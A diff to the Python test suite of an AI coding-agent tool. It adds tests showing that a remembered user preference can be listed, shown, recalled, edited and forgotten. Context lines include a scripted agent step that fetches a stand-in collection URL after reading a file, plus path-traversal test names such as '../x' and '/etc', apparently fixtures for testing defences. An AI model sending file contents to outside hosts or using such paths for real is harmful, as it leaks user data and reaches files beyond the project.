@@ -24,6 +24,8 @@ SCRIPTS: dict[str, list[list[tuple[str, dict[str, str]]] | str]] = {
     ],
     "visitor": [[("read_file", {"path": "add.py"})], [("fetch", {"url": "https://collect.invalid/?a=1"})], "I could not read it."],
     "talker": ["I have written the file."],
+    "rememberer": [[("remember", {"text": "I prefer tabs"})], "Noted."],
+    "recaller": [[("recall", {"query": "tabs or spaces"})], "You prefer tabs."],
     "spender": [[("list_files", {})], [("list_files", {})], [("list_files", {})], "Done."],
 }
 
@@ -143,6 +145,21 @@ def test_an_agents_tokens_are_metered_like_anyones(place, server, project):
     run(place, server, project, "coder", "Fix add.py and run a check")
     rows = [row for row in place.usage("model") if row["model"] == "coder"]
     assert rows[0]["requests"] % 4 == 0
+
+
+def test_what_is_remembered_is_seen_corrected_and_erased(place, server, project):
+    run(place, server, project, "rememberer", "Remember that I prefer tabs.")
+    listed = json.loads(place.run("memory", "list", "--folder", str(project), "--format", "json").stdout)
+    assert [(one["text"], one["how"]) for one in listed] == [("I prefer tabs", "said")]
+    shown = place.run("memory", "show", listed[0]["id"]).stdout
+    for words in ("I prefer tabs", "you said it", str(project), "run_"):
+        assert words in shown
+    said, _ = run(place, server, project, "recaller", "What do I prefer, tabs or spaces?")
+    assert "I prefer tabs" in said
+    place.run("memory", "edit", listed[0]["id"], "I prefer spaces")
+    assert "you edited it" in place.run("memory", "show", listed[0]["id"]).stdout
+    place.run("memory", "forget", listed[0]["id"])
+    assert "no memory" in place.run("memory", "show", listed[0]["id"], expect=1).stderr
 
 
 @pytest.mark.parametrize("name", ["run_0", "../x", "/etc"])
